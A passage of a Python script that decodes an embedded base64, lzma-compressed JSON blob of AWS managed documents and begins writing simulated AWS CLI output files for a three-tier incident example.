/EpOGn/dvhNWBTcNA186Phvfmfb0iaNREib9YcqLND5cVHF9v9ewo93af2msGbC0BZpybTiFvNu8bKUh/nlujEeh+KH6DGxj5AVI
56ewfZWaqKlNSl0YnH0e7H/A5CtbJUH4N+nlTPjoMJNUGDd1Qx/ts/zPDXYKpbdA73ka5I6WWQEsKgZFzjZzWGvq+k4APemwPoFw
TDTzV7n9quE+SeLaIKbUgxQG0n3f6SSVmOYzvWQ9xeoaz6YY5mUpINDgqAzcoghx2y7jWwo9CcRBizIAUULsUG71lu4e8ShSJpU2
DuMU1d6oYfthVS6b8ibf99UnSvBiPXS9YRbD8hH9Ywc9p0IOEbgHWAX4y7MxnmQsbXmdMEVb2+VctAGkrevEQ+3bcKvekm8ivTV1
k1i7nU9Gm0MkEPuMqseEenbdX/ZB0sfVHdO/YD+7jqH3s9PsQtqisw9BB91EIg/pnKu1RA5gvq4rLuzhk0VRhZtWgD/nLWDatkB9
Hj5sHvXsQ10ZdNaxW1RVwOk75qvhMF0M7XvR2TfXesH6LwYiZD85lkLUGc1/zDzlFwFvX4BS6C95nxfo+HXQNA3dQCuetZageyCr
J3IDHqvNp+oG+QbHZNMQfNyRC+RGHcNEQBCFcoRRlGSknb8b9HorAAe2qR3XMZpKIUBhStOgNtGsxUIFa6lep2lAnX1cS1u3TJaT
mqeV6aX5vVUaB0/lZNIf6bddll6EiRpd6+mnGO1w7IRhq4saAgeyy54F8v7GzQ+QI0ABCLpLcK5iBn8cGg2YZ+YGcV4y3CGXUaXm
adr/dXkF5diJCH9LR9wLkN/RDZ0ErnHG5RcJuHgo7jUJGdNdf47kfGRTzw617YDiqsRpqga86iT/Nw6t9nOJAlpYp+dIo2ECQ9g/
M7W2e1mFnxBtmpwxdL61opE6KK1XmrN38n5vdeM7Nmzme6KSWiN01g/6IfuGu+Su4CYIdnJq+7xO/F6Azx3sK/hkBD2Ta/4fn0yy
br20swh22+WuyeaSPB1I+Z8WDLMWK+4Qp9y5Mn7SD1T5rSR9UTNCGsL0Lz2lOxxdo/A43q7Jb6nc9YJwMidY72bBLnVTFILhos8i
mncqOGljpx+O7qRpyO1hvddRnp4Rbsn3blfm41nYRfiqW93yMe3vnM7/CiamarU/uvWfbbrGuDTJ45Ch4UM8h48Wzqp0ZFnVusHY
HXFwvH3/heSx79bDdffofy9rtlJjCYEpMfrx+WSgqjJ9gDZJ3Bqj3O1XW8Iu+DDP66zqjDgfG2EYd3npA8bMmyRYcacS6yt0fK9o
x78HLtsIGxbCv4sROiWpmLUKBqTG797TPwiPzEVbHUUi5/1gnmeHi8wI9dDVk8Oqr84m/z3+XSdl2KRUd+yCvSVquhLhYcWm2c7k
Jpbc1M1Yay7OGA5I7W9JBj2ntQcCvdU2OY6Q/bozuBxmtn3M4WMf6BjAEgNtXmGFvXhUbGWudZz6QelZtPwB03VPqPKaZ4vEwiQo
/Ok54W1Zyx9qbaRJTb3bMP4QAT25r3gnDWiXg18roia6V6PJpG64EGlF3cQNgi8V9GPoWueQLVfPredEdl8kNsI6nj8ExxeY5IEl
b4//1MiaeoawAnvFUazCQDQ8+ZCUQPVSEZfPGg+ETyfRJ3Qol8rnlFsnOauWQZxs+78yNU4efT0Naobn9fH0+P99Hf7tk0CUysk4
w5xioccqNYUpeUIKWAY5WDZa24SWoOsE0lRwulYNFzxZiW7Ad6WILRi8vUU5/v8I2lzesgfbmqWroPqZOGI8qVHDQ3LaX8wROl1R
WpaRoMuXMb49bypF0RXLdoGkuDoBktFhi3DAzwIgaIqMSVOIwLUMaKJKDt4H3EdKYcmfK9CY+CIS7kyVljGdtTYSarUAnFoyBL14
4xaAoH40gE8AN1ToSX2osA/i5SToga+WocCyd+5F6IhWrED129CWLPpmT06INd5LxX+kYyiJ/PH9mf+7wprhcowxp2dwp0mbklq6
S/GKw70jQ0pjJRIxXRXOd+4sp5H9qdlkjDzHq3jDyucZ8pO93XxL9XJTlYG7IAx+qVfnV/7ZBqyG9xKX+tKKccLaor5rL3UeYPie
2AQdMzBmi3Of1mU4MXMO01Yq5BICN21fI3MpDPC3rWWFntU4wICYOROa2rC2ylKaE01yFdqihHf6YpW3dMg7tFXylzVTwZanTb58
pwVaBFuxyYMv9jQWLfFYbEjHbovh3Bc26NGKfpZB7k+6Xpcnci42jSYukNi5ZuaFc9X3+pssy2A1/jw0+6xojeRe265LU+xbczYy
tQzYjOmmI0NsetyeNMqZvaP+06EsLLSFIDaPG74RoIItoZnh1BXsBJyR8JHsVN5+oRFy52mptawSA6g/7O24y+FSzfyTZeGfv2gM
dyUB192SxZQwgQu+L4Y3l1AN1a0Edwot+4KwmIrEyiNkm9sOMT8GDGK2UDe7zYlBYwkdgkmGPvCFhNsz8Uh8SRtQySLD94NAxt0L
4pz04bP9yCGdp2AXnC3hkxf5nxOw9KyXIMMVALsXkpvfAjKPZ9PJhrzoIN8x16jsxtZA4sFmwMcxntEnztUKgq5aiuvuQ8QszAZy
mxdbXhMxjmbHSwhESTGDPT16X8HTGAJeGmavVizFVkEzBGnf6JARkVRWMip6e7ukyILjIHWmOFZa4roh0Qt6WLShFKEYKAz9Gn1L
ED0OE186xcOovbQT6TN/Ur0QKvT+c0gBr/WysSD+snLd60jQ+I/LPr8BFz8cOiZ3pM4Ik8Ct9VDsVU7T4WMz6Mtx0FTfPXP4cHsQ
+7FClnYAQg4ADau4eLHjDn5qgxR0Q6IL78yW2VMOqvj/7GzBw3J/7stFYBvVBY3sxMMkJW/McDBYFuzoBz/W2bUh5VKMErAAi4Kd
RO14dwh2uBTlzqvEW2ly7wJ27v/eKfDJupFRIYwrMceJQTlf6aGlnC3VsamgS7mqlZNciwUGMKH8yEu7VZIevyTeV7+iRbCpWuKU
9lMbJu/XGxFFZLUHJ5gC04D8De1FeTfXV4SzSrEVAw+EilkF6ZuTq77/Xtha5oeeSzkF7eiexKIVIVNR/hYPVIoTi+1ThhEnsTnO
c5XJG+v5r7Jkm1AsybK/Qhhf+8pN7J5ZyEY+veCHx3n6jcbxlw/ly2RndYnKqH0TMKRTI/H8si+r7baBnpgREvyDlJStmeYSU9Ty
vDsnMh/+Js2CevkVdAfgnK/JCmeIIhEIzl0H3WdQxfH/9mChlDG8jbhp/yY05nbGV6KUFdvliSE0/2/7diIWdq0hBy6w9k09A+gB
t4pv0iaMg+g+DWyRtkM6SlykvCgkiE2t3RXzdushMuqIjCEmpaFscLupROcp9/jBbsqz/HVzYqd1uv7pFIpQknYRBz56NQt1MhNF
NP8lTddJ7yOHvKCmof+m4IFN7JZqunDa3V6G1/xrKajGkuwtnspYfRxmCboP913Vsasr6GtI6OJyzjExB3PU8FvWL0UV++5Rjkkl
XVA1Y0LHttm2SdJmuwlH10yCdVnVKfctgKSqIyirXk5FSdOadiPdN3vVZjMrG9LNqLK0e5sAAsnrS5Kk7Cn9mhx4IB2f/spi6G28
bunon1lk2kbPOKOuUk+pZJ6SniaDqYd7bgeo3Wza+686Li5SovCO1r9toA9ghQQZ94zA2pkfgBBCHN9Mw7amG7NpDSWi1J/n7jzQ
g2WMw1g91E72XrLQ6EjFdXSh7Z3PiagIeOKeh8qTtdNq3eRBIGkCwqJh2pNHrA3jvm5E+GalW90CCi0jRHqtItfFPilKCIVLBbL0
Dt9NIoYvzd7rF5VRBSWUkgYAIkOtz1sdrRKK3cYtSp3NwVPRNlNuNcnU6vY5pB5fc1kQcR7ahYY0G4tDBJYF0tlkd8C5oXRcedbE
FXGivaXpe8sgHfqiv9GbjQW43TDYct3VSxQWr/j37FQosPBwnuAJpyD1nW2rxogD87zGHscYjKMlEd4gWa0fQDz+ESJSDbTsWMVR
qTTvoz1MbBiqh4TIO3C3koNCIeci5RyCQUEi4N/9vNzuOXoCXIKWUk6bwo00pBT2bmdrS8vInm5j8OhO4qek0i3Na7W5MNNYXYdh
UFzSafwGeIGpDNOmF+B65josarjgItBnKm03fhCHzg+rUIcRYHckQqGeN6akVp49Hyj+CEWV77havj8uOxCOSnx98KuKED+9QlWf
hWhk6c6mtbyHvkjydP98HzMcaiccxcoRE67aNczX7UtAmm5HR0irL1kZeqXp/lUTK/kcFgHgh6ioPlte9U2I5Dmf/XPOifdv//I/
Z01GO/dxJcl330Cw4fZZ/yeeRXAjUsHgNuVo+GMaYZbB8y32J8onP33JjPTSBYSh67VgIcrtsrx0ueU3pCE/x7igFzc5Yr4wO+Ha
OqY7sX7fMJJT8rtxkYul2K5WXF2He695WC8HOn8off4RkxOchY8xa6pfXItbGPIXcZK190JbLPcwKM57cVEaYMjnZ9hz/o64LYO8
5ZFplJpnTy8PfSc9Vt2mw+8VyEPu3VvrbbQE8jnyEmcuBR/kdSHL1/CYhwbB0iAXrkxBzMe+JweHa9JYwJEZJqt9lnkAfXXJHsaC
1A+nxTp67goPxdlpRXFNgwvKfURI3s23X3hYIVe+tcWevPpjhwMZafBUuVco1CR+yfFDt8EKM+2a5aIH3cw9Zt32YwVUg9VgZ+qw
pxuQUHvBDXKhhT2lDialvqgQSTXxCtr8VxByzfDjNAUzgDCiCCOiVlP+0nkGIwFsJ5Au2p6EBSBsnB6Zu1rmg4eIEKZWmVMkcUzT
KAXhgVFV5g+s8kXxhb5WQ3W/TQ2MTUXKJnoewLgoxFK5kvOiLAawLESkm6kO4vqJVaxroYtX0AcEALdUqjwMPPEegdFPx2Ejrpi5
VFC455Aliz1wZPK3dr6AnOiKkYJImMM8oKw7nu43m9RwS8QGW8JHW3ScTDfCbUBlGCmhNFvc5CdWnPoT/jJ/9Wqr93thRZgX1ZoP
K7NzFHCPbDyCsN88phjsMXlEgzr+XwxeWU0ghrQQ6rM8KvBvwhl+3Ftyc7AQPV1gwPssd+jS8uehSvdxVmTk7chLYa5fgAoywKfl
/Zh+4tTXLxC2Ml5sWUyfT4jH+BBgntNvS7MxnjPPh0YZK2YHGK0wmFSMkTP685rAYdzsY9deGbKbwVVgl2OkNswcfH+9ytsxgD3G
NdQ192va98A7uGAUCmtyp5Oq1JiHTBgiVkkJYpWn9cCQhrvfAxLgD7WR+GHf3bEsU5bDNQMVhhK7TONk+6dGtnUyOlvNeS2+e2kl
EGdjRHXwnFAFXfhyfTp/SrwZMf3FV3tkC57wSDWy0FxQrMbM4p4XzvF2lkgkvKWQFB8lRy0lLzJYqXTTqW9lRV3HWMjw0U4JKPqP
vMGF2BNO+VeOaoTzFquhURqt4FNsACBA4Dexd+JNsAR9Rx93aDccegpjFx8NgcjpjASrxNuKYW7e2A8l1W0R3t1CQpbQhfmnO/rS
G3/CN3zpW8J6FD0Q89wD9ekW3FVw1bbwf0WIIPGnlO3IdXds0CoSSRFUGUiTKPM+6XUkN7NC2YcEWI3KPvzbx/+zEu+fJ+30G9Tu
E0mnEITQ1BBa1wcbDiQlHgSDHjECeQILaC8Mwh3+9diuuB0S7pqcHnW5PnxxGLQO864bjI6z1Qg+4k6v2cnPy0YnYjzxJUZlZqx8
TEpkhYuxGKjWSAAGCsH13JPijPZRERnstWrhK+2MTyRPTPyBzFKsEUIk1q7hDZdP+KpiKb38GuuZOZaDytsiPXtVEWpaZRUiAcRz
wuEmapc4JwvYoGNR94I5Icr1CBvQ2vQUPkynKzm7ONOkEEn8esGxGB6dicgBl3ceP7Oot9PGCrODjS/ZqK6wDR6TcRf04k+IgjIX
JOx1Bxx+xO2L8gTwY3VHTa0o1UPaDj9rsJ0V2Sl5vl6P638QRUTc9JXtqgvKt4U3uIIIVanH6G189Ys2hS0cVwYdt7Nxfor/rYl6
GetCTrw4Zkaid6FWXgHGlclw+VQreLCvz8DAZgv3VExSZjoEHUkqSwVn7DvoqGC0+XxItUO1F9NLkm4gG3iNkEjBx+ahmUH0rS87
/fX66bwUcwhQsCaNhqAfw7SZ2JTbQNSKXqrkMUI6fG9GSGqVZvTRXejiPwjk2GEvU2JD9cviysgSqZMgXtp5M7l8GfEEzZphaoAC
Ea4cYqc75fhNvPJ+NzSDHQTzN2q3wiujDUMwiPuVfplRyre+W+AZ/LP0b6Exn9DOF3i2T93Z2zcxh1AqJB0awEdb99KeAqA60OkW
xDsHsbYq+ybL126Gj3ILAeSm6tibT/mOq6KyVtQ89ZM567vu492Wy2ZeSClDGXU/kWo7gPdPo7oah8uv37nZd2enUKguPwEEXrZW
Mz/Us9a/ziaudoi4r0boy0+K0PlSuqtztM5j9ReSO6wCcIPIt0a4g/bAtcKloPaFvaziSppZxeI3zN5URcae4PXBZtAC+qfskW6q
df5ECQNe3nK4m5zM3h7LB4o8Rf6hDGHWbK/Gu57o6MQ0R5e9IdHmj5/NV1UZsT8gjqFjxs0Z8OSaIMpGX8rmPN7wR/7XjKK/aFx6
x+Pff9A8LTOXvk2+FRYUy/M15EEFM+/Fr4p2ONAIJeoCB4y1e86VcxFemRUxca/CWaSw6T5lk2H08T/1d9KHk4glU/3mAZpTBciI
vWcpn2HCY+I2t/7ksuHz9nzwN9vvZT8JpxBG673vmaIRqU+BnfUonEGJIYqL/VTM1RJKM+sa7RFblGQ2/v1E8WoMOoO7/OeUvsgP
1Y6f1MHbqVRnUnRGV9sJtc4PDkAhObggDAhZwlM6Sj7oVMUNwGkR2BK8c68jpVyI/wCQ8kMQYAiUocEY1ucxeEtjJM7sxFRjtBOn
frjYs/2oza84z8C9f6g9uWBdT+nX9hmL4xdPN+7V8ACzP5/0xykC2aV9USIC0gsvFKS8Gc8cqr1jk6ePZFpI7uQYBhcbJpNZQR6V
kmdgV3zJ0nirapRZyt8cySl0ML4Zz2jTZeC+1esphK+DSycLGk54V3Cb4iA+/CVbzd59J1r8HXXxxqxtLEVg8jn0cQYDtjG/hhPh
h1QYZ57lBXBNs/hLVccD4iObVdVEPoN92NCGaGQUoa2UIhylYlo8Vwzd+tG6LbfsJlP0f1awqXUGFgvnSmaNNk4YgG0PpKcEVZj+
BZXQZIcDCsqIcR6DqPkdNqkrBXaJE7uN3Veu4tPKYVYPNt0DOn6t/4KK2X5h6IC6qU8t/JFD1Llg29D9gKAWzyJfYHUxcx/6+i8N
PI49oWxChwCSrmYloldSpT4K20LtpjCI2ZBC65YcyiewKZt4XXCqWS8LiINzbSTjHpy/8MgxIITtMVm+VkWwbVJu77mZUAydRM3V
slsb40HDOmch80/XUDsxvFes67cCAz+5NrresryRfkHbIz0yap1CvzuujyNnEuGh00Ti+Bc9pygA7N7TAdMHm9FuJjnlBQgyqMNn
2LOZZQbKMiusuv7uk6ff6whxUNm8bB59Xcxk1gDFUhIaoV2GxtsUDEkaigOmmrB6/41HNW3Peyt3jfRxsMtjHmWQBwYEmBbm4lg9
sZ9dF14oHDEkfPvMnijHWM1oMaPbAK5PGVw0/86b7qLMpoESJyvGak2TI/8FwUV21pzfEaYwhRE9l2fiLDrerIeloUXBHDWVbUYZ
C3+MGrKMghpP+lweoSsgYMXg2SA928kA7ihwiOsY+AgV/JBg28y525nsjDUghT0vaBmoiYDqUkulftvW6U/UrMJleWUgqdj+Zmv3
XzATnWroy2W731Botzs6kWy4Ee23alIZ7KLoKXAvRnI+9oSnpsfC8bvXrxbhOANaTAt13TDyW3CZtr6R2Zj5nyfG27BkwAo8J/3c
/0BQmURIzUxzvzMZjniBbKPZCA7DI/+YEipm3JVO/nHvebg45kHMrOdKMiTgs26skSW83dsqQqWi8PU/bLwOnhxpCG5uT7WMJR6/
jmwxDbM4m0Ndo6DnxUUmGuVolrLtS8z29h3PY+oe7/xaCbA6ZLNxHPMIEAsYxBIR/n7UxgIRDg3XtKGBpvHOm7HW/6g8lZ+YLxjG
lInEEIZWe1pR867E0I0eYsG/xn/ZGu8IYQrqBMGwW+vH5LW4uuvRsPQ7/xh+0sMx4ojmc8pAjZ6G23jI1bMRZ1WBlM3em09CZOVK
XZ/oAt+gk3Ano2FAtj18DaBzRvDUxugBmF4ZS1CoF/4wnGaBIykLkCBDSP0iS2dixnq7T2ukJu6oEa9MmCFcy8mdyfzm5rB7ssy3
g7apQFdsKSPqzravub141qtSLvvYAXiYO/dKQOp0Wucrh/Y3QIPLo6UcBlMZ+Phn3gtcZ/Odb3MweetUYftU+sDbu/SF7/CYt22l
IsPX52CFqwk9t8rJWrTTOndAw1dKbLRX50FJDb8pTf220pOh/d5YdlTk1fzzOKiaVuVB7wWwbVCCc20Be0VNjoDbNn00VFlyfUXC
HM27NJ0afTDE+rymOBOJ/dxY2PJAQjbBhz2JV/Y+l3cnkBrAEPUXbMSum6SPyJIGTsbidqbXvV2sejk8SLuAZdjKmJGWN2uB51Y9
7O3IwY0AfSsspGoBcpanp3mJWfvMwfUyn3fZqqVBP94E5qcsFj7fj9Gn1mnrwMqsyUHbwxAf48ezFm43LtoCdm9MpVb1Wiy5QLA+
WXSlAsyZnpMWptFoUhqvCMEhG0XvLEafsuhS89Y4YOx5uxffQdNU35OOVBIGzrmD+9FtWGMQ12or6BugIex1yzKX0Vb3cnVxqCES
5HdAdXRBhXb/7yGDZipyUy6VHpq5D2b13L/EJ2ZbvaqeNLsNnbfgn8AAYQfLRuKWfanTTrdzkhjISK70KYLHalncHZjT66lHU7DR
2v03mr5oGmRx/YAC3HZMZhNeEpmQeOgLnrvCDXWgdEHtflVY4/lk5WkNsw1veyTokevj/cKMqnoIVknpdhNp2R0Y6G0DtMvdCCBc
VSivmav7sFOInuDNOROj7ZRYo4Qh2ik0NB4t9DIAFrDv4X8gDLgTjddEOx2HN8DslaNzxAMKcrKEyd6RMgsDQFjgW2BUhe+ebnE4
BoZe1VNdAgmmXIMEil7EcngUp0ManS6Ou6u7r6IXG4xH+OUahacImh8j76hzwyYL7qt5QCsbUQY+GIhyWomCw9kFoNdEG4nxl9IC
hLZw04I01hTMRlJhiagUfgbmBOy1WKElTc3VVFL/uGYq3VZ5YaJS8s435bPhn0ATmIOVZ8tMyRqOSqdWYxVMYxrTzYLBCdDycY/n
ZAbOwHaT7s42x01DlqEmgEmoCObAIZ38zjKgx2syKISKXlXkQNJLIYXfHSvWl5gNgqGhsWGjyS93tzPKWr4MfGRVMaDj1noSVHmA
NKjIiMLJnqDfa7+Yx2yVUR341rkfCSPXTrHTujNpgDNs45vNLbjwmA9G65UTCWyBphBvyIMRfz6YMOMO4mhQeTLE4mRWdnDZLro1
d5Yhggkpf3NHzQHybH64VaWzKjwijQ3wXOACwRGwvGjnQBIHpGupAujFw12FbF2sL1a4vD/ID/PQ2O5okd1RhjUxrxbN0P8BzT0q
c1REGLc0vYpOVSpMd4PPIu/1hYF0SX8+6OARZaEUHM6T+qkbIRJPD8g6vvMYsty4AGkTdPdDNHasCb8fzM+wAglwWfO+Fd5euIvV
to4vfRy464hqBZ7mx/vW4koBArH3yJB0haYrSKJyNU38XjmWdJ9MLOjQOwvstDQbQsXKruznM5GxMW7VAIhsQbuT0Ew8dv73boYi
CPrIzfgdIGgTtMyms2aylOkQ7G+EGF6ByNEe3+fJ3izhgH8XeFVS1yOCp5JVkyqXcWB7bUzdnmrlrjohTUz8vGvc/xqck3rFg4KV
UKa03XCTKH8as6f3sziAeCsAvDfhO5GeKdo+Gzx+Cl3DRVviuL7plg0HvG0oF20sJ/WmX+ZzQXf9VIbmVTcIOBEkciI+WA/IkTXK
2zminOsuCLQQK2qazkU1PCWf+9yR5zCfsejCZP8jiCocTmGpcg2ZxIJawPMgLxoJIG0RXwF747+w2JenMGUcTDpXEedmCgWqXBh2
OxeviHIcW8swTSGv82+Qwq4iqWf/5IedBAYANjriZiILU4lufEUIyUwHR3rtK2CrWeD4PG/YokJsN4+qWurbKeLnOc8qA26l3SCL
9JTOUMb9BbMfRGE77CZLPLZWGzxis7kgCXLB6Qn4+Ek3dxBfXvRW6PlApRCpnslBmF7KXaKBtUInPRllHxsot2oR2PCIx4kmusya
64gbhbcO2Ey8e+ZtD6liroymVKNfk7fpHZl9zFun/Xdcy8aERZI554iyygTrohSHfL220D4ZBuso5a2+V5HyBwGUtGqBJDOLfg2X
oFBRx32nzaS8G13EynhDqtPp3+nxMC3x4H4BrIcx6LmE44iIwa8D0Q2oB96Ol2Qv7ZLHXy/lDYIYmj2hlvvlkbFk/+uY95STPtvq
X1+xaLihXn6J0b5h/IvpeV5MB9bsfKaWDZ/PRtT8VZmjftmw3o7u4tzQGEC4IqnbonvYzEXdrhN9T+3mER1jrQBSxamNshxwULpm
JpCIn3Hz7qT9A8vsPe3Z73AAHi1HXEljgxyliTddRwLcI81ULYrmG6pdQWMA5ZBQQP0/PcuMR+Vmx2Qy2+WlCpFIQPxDbqzWiFUJ
c3315WD/MfUreSeie9w/jgkILkmcFWOHug6vAAD6B0qrWOwIQHqMvCDtP+7SRJezzVQB1BUmiFpAsgsL7xiqs8QiIhHrTHWTHN4A
JYShglPXXrH0JynBYDn6YhF+LANMEpq/JcjR/lOec9vu4hMAWbtDXBAfFQFw7e/CsI/CqUaGxuJ3C4qGhFW3DAnd4GJewW0kmczl
x3msNLk8FbRjGRNXvHB6fq7g2W71WQH9mG/OjNtJt4qcxzrFWoEoZsJG3m+XSXxT4S+84mUTA9M+PByrXa5YhYV+/n4Vt+zgigUY
U1PcTEugK7l7XRGliSWsBl+YQDA/F1f3BSpK1C6EC9AnJolKCZadGSWBgyx1GqTDZssC7nzFktpGR0eerSBqo/iSkpqjc42Q4F0F
74HwfPwpmMlDB5q9CByT6OgH9BVFqmHsML0eD2oy5YLQ/L5DoEM085FoCeA2p3IFPKMHInMWdnF5pRb1JHR3Dh++QHDwtK5GVX76
R7aHsGtHW80foJg2AUatA02f+eY2lQCJiIJkqpJA2oOtCOw6V+3LkqSJ70M04q8FTs0bKpNmkIH6C85Dp0koR7GQk5bTGm3i0v5v
IQ9edbAVT7aXi2oFc24lziddwRQiqQL41wJVEpw7YVHHGu6+2rT6BMS7tUjl9FwZmJZh04mqDDnKUz+4qvPZdn2JlCs/GeW2inSa
Xp4kbgv1JS4jYhiE8jkWvlGstEcwWrR/fhKxsyjK9d4MlSN0Dd1mNKqvbOLXF3qsL2Br8ATkTr5S+/xigrwsKRMmCrCmtDG1VjgI
3y4m+kYuucx8tm1IBycue1KqJQuAG9DSaGs6lr+Ri7paWchUMvpAAxwMRerCQPP8vVW08d2AWPZCprjdW7Q4Nou5Gt4aDFqZFWe5
BidQB41+I9brVsPTmtBUp/ISU0/0kM7xXSG1gE3DP350dXqp/g3gPjU8HLYSWu/F8hBYVpDWkCN7zDsqwHyYpvd14mx81dFxS9Dr
bkrAiVHhOYsiLg0KaEjD212knO4jCTuKYbX5Sx/ih/BCTOYuUvFf5st2JHpOAFkFWguUHP+WXEpWAYnZhctputPOrxk7Qg9O9j5p
WuaypmGAHmgj2NgXlzNyV/faO7cwnMxbvIx6XFCr+fEdKBB802iKAX5nOQUDG0WvKaauhEMKVNSbt4YcbPiRP2qzxBjt71nLOs9S
H0qDdrwY3w3rHqdJbWBdAv0ment1qjozSBvlmd30vcUtWAjILmeF+VwuqHRa8QCOVLj0Y5o9ITPXj7GL0k+O7k06Asa2zM4rzQcT
uzlOSmMa3MeFy8q5RatnbaKJalio5KDSz1RCIh9ur7nXho6xReKbQXVf1Ltcf70RpMvftfp86eHjUjo1O27oqotPQMyfCPFji72J
FI5C9Il2SveFtbvpqHY40OHNgMa0vrxjgVyEsoAead3ZHfvwXUtcXbkj7jSeKBQnFyk48Vl8n/7WxDC8TCDWG3iET5zBNeEwc8iF
fnhsWxG34nzWR5ExaIU3MH2ik7y5fXIfsQpwtaKj7rDdyJRsufeTDjFRG5nX9NrXK2CNNnZjDpVWhtPNDjX/hunAmp/r+GY7+KmE
4UXExakb7hX3aE3U40m4XPsOMTB2wCH+uKk5kCkspWvkvZepoyfIE3Lf+6oOqlUSZGN4x89QQ+KtCjUV3Drp8vbf02oV/q/4XjNV
7uimakGB+TdCTZbO1G2d/RRBj02zYu5t1+zFfwYWnVX8fEXFRmDLSA4Nj/1wJtxCSAJxCReIlz2YKS+4WWvY5d8ixUOWCOjOv6C+
seY8UmwxZktiK6qQh8C4PUUCGL9KH+741PMDiHie5EiF6SMKUB1Gvnm76WtlJNIoTZOhBxXk6nVKmqIltOqz2X7M7HufTwl6acDt
FeYGlz0dX2wb3MR4+LwSCuwIQRsk+9eqP2k4DpCQDh7lfZR5Sy4tkMJ6UQ+ZKzYj+kcBs0a6JdB2bCsGaJCgFefMhmBYzpfufK1d
Re9K9N+PZbCjYi2PPxraVUHI9OBGQ1PEz7rY7PNuAC+X9JKpu56sccIqgTIajvKFnW535ipVatPNMbNYYJM/CyNpxKF1iYO+6MH1
71v35mbVAK6X1oobgcnWqCn0MBZTx7pIheMvq2KpWANMQNy9IS75cGWLXV1mz++VZbZ+vF2ri1WFyDmQHMAzJdUoYOUtjouC4olB
owEaLHYpM+Bk7AtCxMwK7fLeEc0+SI43cdWRqQxo+36+2W4bQ5Pa4Le8xTMKd0vd7vBojzyC9Xr7w5Of1qE8LqKLr8+h/0HFWwnf
hS/k0HlXtNVk+iVexlgceZxYgY7zm8pXkqua3yetjqHYMOTc0JEtSusrj36RjLKQnKx44ElbYvFtoHyQlgh2IL4v2R9gDGj0y51m
Wh2J9TFnadrJ74r+oH2Jncz/dTz89pFFKWc+uq5Whkv8JNztXdmJO/Rl18fjIM6xYcH0kD9X0j5mFP4WH5NY7OIW5GH4G7+WYs/f
+5sJT50ixFGPf3RzheuKbPpjI/VZK8bkboWVOszda/tpp6PD0hcppcSlOwM5KOSbXmcHIATamzzrRxZWj7y07r7gKmVQa9N8D9Kj
Ww3LogVCltrzISg5jSszyfDoSDmKU5WXLh/BJWnWSEePWsJ9LwwNvSuzVVpo3jH80hmzgnz5VNCHzF+UAIOiXzi4SC047DXku4ol
Hcyz/wVlzFQ91PrrT63SoCZbz5r5PtAJP5vRspYy7oC1XHjGW5Dz/w4yNZLgNXNThQPFgOy9gF8nNwCmTiOtNZmjQ85agrMKTIzI
/6kdJNDpIfqUOBqMMfsrH+Eko2QUGXRZjo2/fHFzAespEiK9Xav71e1fu3yPujmctF3UKztN3sDDxeHojbeTJOFJZjW3Vk2KbpHZ
LMp6cfeb63MgXJ4K9GdsxzLwq3EFUIV33tRig+pjQahsOIIr12TA5cjNSMZWnOPmFMylFzicX+b0WjgLkHuQ4Y7wT2J6DKrXvKT8
JXLsxzOkCkErHK6C4sFCBPa1xuPnk1fzMT+qsNK7RaPfdTDts6xxfpKNKncjXZiOyYSckZtv5RBpA09B+cYmJTPng/gb0t4sH6O1
n3vg5lXmq7scV3os42fSNmzDXjcbd0hedPEt/Kp0x5xgfjRg3i4dxRG/6KAnwlCi0i7KL/WJmX+vbYyTYe2dH4D5grV2jvXaOgOd
+xApEbRRBEKsKLKkXQboTVrLN5fFgfV5kgBzWkKAhaPMrhtE4KMTgvsNwSEV8cDBHg4r4A6CEeu8MMUBMfuBgQWNzq3dBF0WNp9B
+FV6R8RxL5/79mL36309TnkoRQ0JNv6PqMK7672o9WTcQKfRau4beFu7tYOxelMZ3ZOi3F7Z2lIK3gIdlN+fv5z71UCDbkUb3ypw
YgJmniBzhW2d7W/SEYc4lg47poBKT79YtmuHWn0t9eQOR9PgPma9bTFLHsIb0L2aYM+Ho0h/SQwIVVl2ZCJApJKJF4nbQaav6y9X
vYq6IJObhZ7FSo+ROiajGZgIfWV1AD0rWKGolz5E9ZWHDWa8MTwqu8NKek7kF3BnyE2XXkWyYWBe2yvUfqsn/1cdl7WDWrYPbe3M
jWxhRGMgty73tjwC6srY7jDFPSUAU0wrhxh3GwWKGMG29E6K2T6fdkFkXyk9xnJNFbYbPj8TJsMX6trrM7eQ1wVDw/QU7eqqYBhg
kjPyvI7568keMvpTRHIiMS23aq/NwLNQZcnY6a2Cjj3o4msRlb8+ImvRpOGWQGTGl7wa6LsuEAybAejejq6a74qw0qsC0xXfBgI5
m640smr0jvKmKvelGqK2F7JQb5GcDmDeetlGan2hutflV2GXOXETp/Fw0N9lpNUrkU/c/s1/+xUAS5LBxRvqpcfmaOD57WeBzvfE
XXimVoe2plMukBlIp2VLVQM+ONwjv1Ju0h+9x+oI0dcEzSGx7FYLkNJdAg5oCLiGjsuhu15gq/RM7D98PboSOTbqlYT54sMLckNo
+3SPU+8BwVzyklcsAXNaA29KiimR1j9NblQL+xTE694GtDc5JBoyEAh8OrIzqPCm6WyrbK1ekbk4AAAAFWkzuehGS0MAAfvCAbuS
Cq7xwP2xxGf7AgAAAAAEWVo=
"""


def aws_managed_documents() -> dict:
    return json.loads(lzma.decompress(base64.b64decode("".join(AWS_MANAGED_DOCUMENTS.split()))))


# ---------------------------------------------------------------------------------------------
# Output tree
# ---------------------------------------------------------------------------------------------
class Tree:
    """The generated files, path relative to examples/incident-3tier -> bytes."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}

    def put(self, rel: str, data: bytes) -> None:
        if rel in self.files:
            raise SystemExit(f"bug: {rel} written twice")
        self.files[rel] = data

    def json(self, rel: str, obj) -> None:
        """The AWS CLI v2 JSON output: 4-space indent, non-ASCII kept, trailing newline."""
        self.put(rel, (json.dumps(obj, indent=4, ensure_ascii=False) + "\n").encode())

    def text(self, rel: str, text: str) -> None:
        self.put(rel, text.encode())

    def gz(self, rel: str, data: bytes) -> None:
        buf = io.BytesIO()
        with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as g:
            g.write(data)
        self.put(rel, buf.getvalue())


# ---------------------------------------------------------------------------------------------
# Snapshot: EC2 and VPC
# ---------------------------------------------------------------------------------------------
def subnet_of_ip(ip: str) -> str:
    for k, (_, cidr, _, _) in SUBNETS.items():
        if ipaddress.ip_address(ip) in ipaddress.ip_network(cidr):
            return k
    raise SystemExit(f"bug: {ip} is in no subnet")


def ec2_snapshot(tree: Tree) -> None:
    d = f"{REGION}/ec2"
    tree.json(f"{d}/describe-vpcs.json", {"Vpcs": [{
        "OwnerId": ACCOUNT,
        "InstanceTenancy": "default",
